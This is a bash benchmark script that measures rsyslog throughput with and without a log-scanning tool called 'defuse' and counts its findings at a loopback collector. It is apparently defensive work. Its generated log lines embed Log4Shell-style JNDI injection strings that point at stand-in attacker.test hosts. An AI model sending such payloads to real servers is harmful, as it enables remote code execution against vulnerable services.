#!/usr/bin/env bash
# run.sh -- lines per second through a private rsyslogd (its own config,
# pid file and work directory; loopback imtcp input), once without defuse
# (omfile: the lines written to a file) and once with every line passing
# through `defuse logs --omprog --syslog=tcp://...` (omprog with
# confirmMessages="on", findings to a loopback TCP collector), and once
# more with confirmMessages off (rsyslog does not wait for defuse's OK: faster,
# but what is in the pipe at a crash is lost).  One short run each; the
# ratios are printed.  The machine may be shared: the numbers
# are indicative only (say so when quoting them).
#
# Usage: bench/pipeline/run.sh [LINES]     (default 200000; 1 payload line in 100)
# Environment: DEFUSE (default build/defuse), RSYSLOGD (default rsyslogd).
set -euo pipefail
SRC=$(cd "$(dirname "$0")/../.." && pwd)
DEFUSE=$(readlink -f "${DEFUSE:-$SRC/build/defuse}")
RSYSLOGD=${RSYSLOGD:-$(command -v rsyslogd || echo /usr/sbin/rsyslogd)}
LINES=${1:-200000}
[ -x "$RSYSLOGD" ] || { echo "rsyslogd not installed (Debian package rsyslog)" >&2; exit 2; }
PEERS="python3 $SRC/tests/e2e/honeypot/peers.py"
T=$(mktemp -d /tmp/defuse-bench-pipeline.XXXXXX)
PIDS=()
trap 'for p in "${PIDS[@]}"; do kill "$p" 2>/dev/null || true; done; wait 2>/dev/null; rm -rf "$T"' EXIT

$PEERS syslog-tcp "$T/col.port" "$T/collector.out" & PIDS+=($!)
for i in $(seq 1 100); do [ -s "$T/col.port" ] && break; sleep 0.05; done

# run NAME ACTION: starts rsyslogd with ACTION on the input's ruleset,
# sends LINES lines, and waits for the END marker at DONEFILE.
run() {
    local name=$1 action=$2 done_file=$3 port
    read -r port < <($PEERS freeports 1)
    mkdir -p "$T/$name"
    cat >"$T/$name/rsyslog.conf" <<CONF
global(workDirectory="$T/$name" maxMessageSize="64k")
module(load="imtcp")
module(load="omprog")
template(name="m" type="string" string="%msg%\n")
ruleset(name="r" queue.type="LinkedList" queue.size="1000000") { $action }
input(type="imtcp" address="127.0.0.1" port="$port" ruleset="r")
CONF
    "$RSYSLOGD" -n -f "$T/$name/rsyslog.conf" -i "$T/$name/pid" >"$T/$name/out" 2>&1 &
    local rs=$!
    PIDS+=($rs)
    for i in $(seq 1 100); do
        python3 -c "import socket; socket.create_connection(('127.0.0.1', $port), 0.2)" 2>/dev/null && break
        sleep 0.1
    done
    sleep 0.5 # the omprog child is started and confirmed ready
    python3 - "$port" "$LINES" "$done_file" <<'PY'
import os, socket, sys, time
port, n, done = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
s = socket.create_connection(("127.0.0.1", port))
t0 = time.monotonic()
buf = []
for i in range(n):
    if i % 100 == 0:
        buf.append(b'<14>Dec 10 13:00:00 web app: 10.1.0.1 - - "GET /?q=${jndi:ldap://p%d.attacker.test/x} HTTP/1.1" 200 1\n' % i)
    else:
        buf.append(b'<14>Dec 10 13:00:00 web app: 10.1.0.1 - - "GET /static/app.js?v=%d HTTP/1.1" 200 5120 "-" "Mozilla/5.0"\n' % i)
    if len(buf) == 1000:
        s.sendall(b"".join(buf)); buf = []
buf.append(b'<14>Dec 10 13:00:00 web app: END ${jndi:ldap://end.attacker.test/x}\n')
s.sendall(b"".join(buf))
s.close()
while True:
    try:
        if b"end.attacker" in open(done, "rb").read()[-4096:]:
            break
    except FileNotFoundError:
        pass
    time.sleep(0.01)
dt = time.monotonic() - t0
print("%.3f" % dt)
PY
    kill -TERM "$rs"; wait "$rs" 2>/dev/null || true
}

echo "rsyslogd $("$RSYSLOGD" -v | head -1 | awk '{print $2}'), $LINES lines (1 payload in 100), $(nproc) CPUs (shared machine: indicative)"
t_plain=$(run plain "action(type=\"omfile\" file=\"$T/plain.out\" template=\"m\")" "$T/plain.out")
t_defuse=$(run defuse "action(type=\"omprog\" binary=\"$DEFUSE logs --omprog --syslog=tcp://127.0.0.1:$(cat "$T/col.port")\" template=\"m\" confirmMessages=\"on\" confirmTimeout=\"60000\")" "$T/collector.out")
found=$(grep -c attacker "$T/collector.out" || true)
: >"$T/collector.out"
t_unconf=$(run unconfirmed "action(type=\"omprog\" binary=\"$DEFUSE logs --omprog --syslog=tcp://127.0.0.1:$(cat "$T/col.port")\" template=\"m\")" "$T/collector.out")
found_u=$(grep -c attacker "$T/collector.out" || true)
python3 - "$LINES" "$t_plain" "$t_defuse" "$found" "$t_unconf" "$found_u" <<'PY'
import sys
n, a, b, f, c, fu = (int(sys.argv[1]) + 1, float(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4]),
                     float(sys.argv[5]), int(sys.argv[6]))
print("without defuse (omfile):              %8.0f lines/s  (%.2f s)" % (n / a, a))
print("through defuse --omprog (confirmed):   %8.0f lines/s  (%.2f s), %d findings at the collector"
      % (n / b, b, f))
print("through defuse, confirmMessages off:   %8.0f lines/s  (%.2f s), %d findings at the collector"
      % (n / c, c, fu))
print("ratio: %.2f confirmed, %.2f unconfirmed (defuse / plain)" % ((n / b) / (n / a), (n / c) / (n / a)))
PY
